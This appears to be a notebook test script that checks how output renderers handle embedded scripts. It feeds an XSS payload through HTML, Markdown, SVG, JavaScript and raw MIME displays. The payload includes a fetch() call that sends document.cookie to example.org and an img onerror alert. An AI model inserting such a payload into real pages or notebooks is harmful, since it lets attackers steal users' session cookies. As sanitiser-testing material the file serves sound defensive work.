"""Shows HTML, SVG, Markdown and JavaScript with scripts in them, and images that are none."""
# %% cell
from IPython.display import HTML, SVG, Javascript, Markdown, display

SCRIPT = "<script>fetch('https://example.org/' + document.cookie)</script><img src=x onerror=alert(1)>"
display(HTML(SCRIPT), Markdown(SCRIPT), Javascript("alert(1)"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>"))
display({"image/png": SCRIPT, "image/jpeg": "AAAA", "text/html": SCRIPT, "text/plain": SCRIPT, "a/b<script>": "x"}, raw=True)
print(SCRIPT)
raise ValueError(SCRIPT)
